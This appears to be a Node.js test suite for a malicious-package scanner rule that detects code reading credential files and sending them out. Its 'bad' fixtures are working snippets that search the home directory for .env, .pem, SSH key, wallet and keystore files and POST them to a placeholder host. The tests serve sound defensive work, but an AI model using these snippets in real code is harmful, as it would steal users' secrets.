import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { credentialsFoundBy } from './credential-patterns.js';
import { rule } from '../credential-file.rule.js';
import { triedPattern } from '../javascript/texts/tried-patterns.js';

const found = (files: Record<string, string>) => findingsOf(rule, files).map(({ severity, file }) => `${severity} ${file}`);
const MODULES = "const fs = require('fs'); const path = require('path'); const https = require('https'); const os = require('os');";
const SEND = "function send(text) { const one = https.request({ host: 'notes.example', path: '/in', method: 'POST' }); one.end(text); }";

test('bad: files are picked by a pattern for names of credentials, read and sent', () => {
  for (const code of [
    "function walk(at) { fs.readdirSync(at, { withFileTypes: true }).forEach((one) => { const full = path.join(at, one.name); one.isDirectory() ? walk(full) : /\\.env$|\\.pem$|wallet.*\\.json$/i.test(one.name) && send(fs.readFileSync(full)) }) } walk(os.homedir())",
    "const WANTED = [/^\\.env/, /\\.kdbx$/, /keystore/i]; for (const name of fs.readdirSync(os.homedir(), { recursive: true })) { if (!WANTED.some((one) => one.test(name))) continue; send(fs.readFileSync(path.join(os.homedir(), name), 'utf8')); }",
    "const isOf = (name) => name.match(/(?:seed|mnemonic|wallet)[-_]?\\w*\\.(?:txt|dat)$/i) !== null; const all = []; for (const name of fs.readdirSync('/home')) if (isOf(name)) all.push(fs.readFileSync(name, 'utf8')); send(all.join())",
    "const re = new RegExp('^\\\\.(env|npmrc|netrc)$'); const mine = fs.readdirSync(os.homedir()).filter((name) => re.test(name)); mine.forEach((name) => send(fs.readFileSync(path.join(os.homedir(), name))))",
    "class Finder { static names = /\\.env$|\\.p(?:em|pk)$|^id_\\w+$/; isOf(name) { return Finder.names.test(name) } run(at) { for (const name of fs.readdirSync(at)) { const hit = this.isOf(name); if (hit) send(fs.readFileSync(path.join(at, name))) } } } new Finder().run(os.homedir())",
    "fs.readdir(os.homedir(), (_, all) => { for (const name of all) { if (name.search(/\\.(env|pem)$/) > -1) fs.readFile(name, (_, bytes) => send(bytes)) } })",
  ]) assert.deepEqual(found({ 'index.js': `${MODULES} ${SEND} ${code}` }), ['high index.js'], code);
  const finder = "const fs = require('fs'); exports.find = (at, each) => { for (const name of fs.readdirSync(at)) if (/\\.pem$|\\.env$/.test(name)) each(`${at}/${name}`) }";
  assert.deepEqual(found({ 'index.js': `${MODULES} ${SEND} require('./find.js').find(os.homedir(), (file) => send(fs.readFileSync(file)))`, 'find.js': finder }), ['high find.js']);
});

test('good: such files are left out or told of, one trade, ordinary files, no server', () => {
  const list = "for (const name of fs.readdirSync('.')) ";
  for (const code of [
    `${list} { if (/\\.env|\\.pem$|id_rsa/.test(name)) continue; send(fs.readFileSync(name)) }`,
    `${list} if (!/\\.env|\\.pem$|wallet/.test(name)) send(fs.readFileSync(name))`,
    `${list} if (/\\.env|\\.pem$|wallet/.test(name)) { console.warn('not sent', name); skipped.push(name) } else send(fs.readFileSync(name))`,
    "const bad = fs.readdirSync('.').filter((name) => /\\.env|\\.pem$|wallet/.test(name)); if (bad.length > 0) throw new Error(`keys: ${bad}`); send(fs.readFileSync('a'))",
    "const check = (name) => { if (!/\\.env|\\.pem$|wallet/.test(name)) return; throw new Error(name) }; fs.readdirSync('.').forEach(check); send(fs.readFileSync('a'))",
    `${list} if (/\\.(?:pem|key|crt)$/.test(name)) trusted.push(fs.readFileSync(name)); send('')`,
    `${list} if (/^\\.env(?:\\.|$)/.test(name)) load(fs.readFileSync(name)); send('')`,
    `${list} if (/\\.(?:json|env|txt|pem)$/.test(name)) send(fs.readFileSync(name))`,
    `${list} if (/process\\.env\\.WALLET|keystore\\(/.test(fs.readFileSync(name))) send(name)`,
  ]) assert.deepEqual(found({ 'index.js': `${MODULES} ${SEND} ${code}` }), [], code);
  assert.deepEqual(found({ 'index.js': `${MODULES} for (const name of fs.readdirSync('.')) if (/\\.env$|\\.pem$|wallet/.test(name)) report(name, fs.readFileSync(name))` }), []);
});

test('patterns are tried as the language does, but for those that might take long', () => {
  for (const source of ['^\\.env(\\.|$)', 'wallet.*\\.json$', 'a{2,3}b', '[^.]+\\.(?:pem|key)$', '(?:a|ab)?c\\b', 'x*', '[)+]{2}(a|b)', '\\w{3}\\s?$', '^$', 'a||b'])
    for (const text of ['.env', '.envx', '.env.local', 'my-wallet.old.json', 'aab', 'aaab', 'ab', 'server.key', 'aabc d', 'abcbd', 'key', '', 'WALLET.JSON']) assert.equal(triedPattern(source, 'i')?.(text), new RegExp(source, 'i').test(text), `${source} ${text}`);
  for (const source of ['(?=a)b', '(a)\\1', 'a**', '(', 'a)', '\\p{L}', 'a'.repeat(400)]) assert.equal(triedPattern(source, ''), null, source);
  for (const source of ['(?:a|ab)+c', '(.{0,99}){0,99}!env', '.*.*.*.*.*.*env', '(?:|)'.repeat(17) + 'env']) assert.equal(triedPattern(source, ''), null, source);
  assert.deepEqual(credentialsFoundBy('.*.*(?:env|id_rsa)?', ''), [], 'it finds ordinary names');
});
